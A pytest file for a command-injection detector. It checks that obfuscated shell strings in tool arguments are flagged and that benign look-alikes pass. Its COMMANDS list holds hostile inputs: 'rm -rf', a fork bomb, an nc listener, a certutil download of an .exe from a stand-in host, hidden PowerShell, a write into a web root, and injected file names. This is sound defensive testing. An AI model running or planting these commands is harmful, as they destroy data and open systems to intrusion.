"""Shell reading of the web-attack detector: commands found, look-alikes passed, linear time."""

from __future__ import annotations

import pytest

from bastion.core.normalise import on_views
from bastion.core.types import Direction, Severity, Subject
from bastion.detectors.webattack import webattack_check
from bastion.detectors.webattack_shell import shell_signals
from tests.detectors.timing import BOUND, growth

CHECK = on_views(webattack_check())


def _high(text: str) -> set[str]:
    return {
        f.code
        for f in CHECK(Subject(text=text, direction=Direction.TOOL_ARGS))
        if f.severity.rank >= Severity.HIGH.rank
    }


COMMANDS = [
    "who$@ami",
    "w\\ho\\am\\i",
    "garb=adduse[r];$garb pizza",
    "c=cat&&$c /etc/hostname",
    ";trap 'rm -rf file.txt' SIGEXIT",
    "${SHELL} -c id",
    "/bi[n]/bash",
    "diff <(cat a) b",
    "whoami;",
    "a%0Als",
    "time curl x.example",
    "|$u wget test",
    "x; time sh -c id",
    "nohup sh -c whoami",
    "uname$u -a",
    "cu$@rl evil.example",
    "xargs rm -rf",
    "x;c\\at /etc/hostname",
    "pi``ng 10.1.2.3",
    "ls -l /srv/data",
    "a=nc&&$a -nlvp 555",
    "$SHELL -c 'echo hi'",
    "/usr/bin/perl -e 'print 1' f.txt",
    "ok;lastlog -u root",
    "alias ll='ls -al'",
    "f(){ f|f& };f",
    "IF EXIST filename CMD",
    'FOR /F "tokens=1 delims=," %%G IN (a.txt) DO ECHO %%G',
    "q=1&certutil -urlcache -f http://x.example/a.exe a.exe",
    "powershell.exe -nop -w hidden",
    "x;(uname -a)",
    "( hostname )",
    "{wget,-q,x.example/a}",
    "{c\\\\u$z\\\\rl,x.example}",
    "set nu \\!hostname",
    "a=1&ipconfig/all",
    "x|tasklist/v",
    ">/tmp/.cache.sh",
    "2>>/var/www/html/x.php",
    "cd ${HOME%%/*}",
    "source ./setup.sh",
    "start payload.bat",
    "'ll' /etc/",
    "ping$() 203.0.113.4",
    "netstat$u -an",
    "&sy^ste^minfo",
    "x|c^m^d /c ver",
    "';hostname;'",
    "name `id`",
    "report.txt `uname -a`",
    "x `cat /tmp/a`",
    "report.txt\nid",
    "invoice.pdf\nwhoami",
]


@pytest.mark.parametrize("text", COMMANDS)
def test_commands_in_tool_arguments_are_high(text: str) -> None:
    assert "webattack.cmdi" in _high(text)


LOOK_ALIKES = [
    "C:\\Users\\me\\notes.txt",
    "Java; Python; Go",
    "x=1; $x",
    "echo 'ls is a command'",
    "set; go",
    "time to ship; more later",
    "cat food | dog food",
    "hello; time he came",
    "Tom & Jerry; find them later",
    "https://example.com",
    "support@organization.com",
    ";$a $b $c",
    "O'Reilly",
    "She is 5' 10\" tall",
    "python",
    "see the date (today) & time",
    "x = () { return y; }",
    "assert(id > 0);",
    "user = load_user(id)",
    "rows.map(ls => ls.trim())",
    "ls -la",
    "git status",
    "/usr/local/bin/python3",
    "a{1,3}b",
    "color: red !important",
    "if (!done && !ready) return",
    "docs/ipconfig/all.md",
    "> /tmp is nearly full",
    "total: ${PORT:-8080}",
    "`${count%2}`",
    "source of truth.md",
    "pip install requests",
    "x^2 + y^2 = r^2",
    "'quarterly report'",
    "wget vs curl difference",
    "ssh or telnet which is safer",
    "Run `npm install`",
    "Install `curl`",
    "The command `ls -la` lists hidden files",
    "| Fee | $0 |",
    "backup_%date:~10,4%%date:~4,2%.zip",
    "Hi,\nfind attached the invoice",
]


@pytest.mark.parametrize("text", LOOK_ALIKES)
def test_look_alikes_are_not_commands(text: str) -> None:
    assert "webattack.cmdi" not in _high(text)


@pytest.mark.parametrize(
    "stressor",
    [";", "$u", "a ", "; ls ", "``", "'", "\\", "[a]", "|$x ", "{a,", "a{b,c}", "\\!a", "ab"],
)
def test_shell_reading_scales_linearly(stressor: str) -> None:
    small = stressor * (50_000 // len(stressor))
    ratio = growth(shell_signals, small, small * 4)
    assert ratio < BOUND, f"x4 input of {stressor!r} took x{ratio:.1f} time"
